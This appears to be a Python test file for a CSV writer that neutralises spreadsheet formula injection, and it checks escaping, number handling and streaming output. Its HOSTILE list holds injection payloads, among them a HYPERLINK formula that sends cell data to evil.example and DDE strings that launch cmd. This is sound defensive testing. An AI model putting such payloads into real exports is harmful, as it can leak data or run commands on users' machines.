"""The shared CSV writer: no text cell a spreadsheet would run as a formula; numbers stay numbers."""

import csv
import io
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from vru_shared.csv_export import CHUNK_CHARS, Cell, async_iter_csv, csv_text, iter_csv, neutralise

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Map")',
    "+44 1634 000000+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_gets_an_apostrophe(value: str) -> None:
    assert neutralise(value) == "'" + value
    rows = read(csv_text(["name"], [[value]]))
    assert rows == [["name"], ["'" + value]]


@pytest.mark.parametrize(
    "value", ["Chatham bus station", "", " =1+1", "1-2", "a=b", "'=already", "Mon–Fri 9–5", "12.5"]
)
def test_other_text_is_unchanged(value: str) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-12.5, -3, 0, Decimal("-12.50"), Decimal("1234.56"), 51.3838, -0.0])
def test_numbers_stay_numbers(value: float | Decimal) -> None:
    assert neutralise(value) == value
    assert read(csv_text(["n"], [[value]]))[1] == [str(value)]


def test_a_numeric_string_is_text() -> None:
    # only a value that *is* a number is written bare; text that looks like one is still text
    assert neutralise("-12.5") == "'-12.5"


@pytest.mark.parametrize(("value", "written"), [(float("nan"), "nan"), (float("inf"), "inf"), (float("-inf"), "'-inf")])
def test_non_finite_floats_are_text(value: float, written: str) -> None:
    assert neutralise(value) == written


def test_other_types() -> None:
    ident = uuid.uuid4()
    assert neutralise(None) == ""
    assert neutralise(True) == "True"
    assert neutralise(ident) == str(ident)
    assert neutralise(date(2026, 4, 1)) == "2026-04-01"
    assert neutralise(datetime(2026, 4, 1, 9, tzinfo=UTC)) == "2026-04-01T09:00:00+00:00"


def test_quotes_and_line_ends() -> None:
    text = csv_text(["a", "b"], [['say "hi", =x', "two\nlines"]])
    assert text == 'a,b\r\n"say ""hi"", =x","two\nlines"\r\n'
    assert read(text)[1] == ['say "hi", =x', "two\nlines"]
    assert csv_text(["a"], [["=1"]], lineterminator="\n") == "a\n'=1\n"


def test_the_header_is_neutralised_too() -> None:
    assert read(csv_text(["=bad"], []))[0] == ["'=bad"]


def test_streaming_gives_the_same_file_in_chunks() -> None:
    rows: list[list[Cell]] = [[i, HOSTILE[i % len(HOSTILE)], -i / 4] for i in range(5000)]
    chunks = list(iter_csv(["i", "text", "n"], rows))
    assert len(chunks) > 1
    assert all(len(chunk) < CHUNK_CHARS + 1000 for chunk in chunks)
    assert "".join(chunks) == csv_text(["i", "text", "n"], rows)


async def test_async_streaming_gives_the_same_file() -> None:
    rows: list[list[Cell]] = [[i, HOSTILE[i % len(HOSTILE)], Decimal(-i)] for i in range(3000)]

    async def source() -> AsyncIterator[list[Cell]]:
        for row in rows:
            yield row

    chunks = [chunk async for chunk in async_iter_csv(["i", "text", "n"], source())]
    assert len(chunks) > 1
    assert "".join(chunks) == csv_text(["i", "text", "n"], rows)
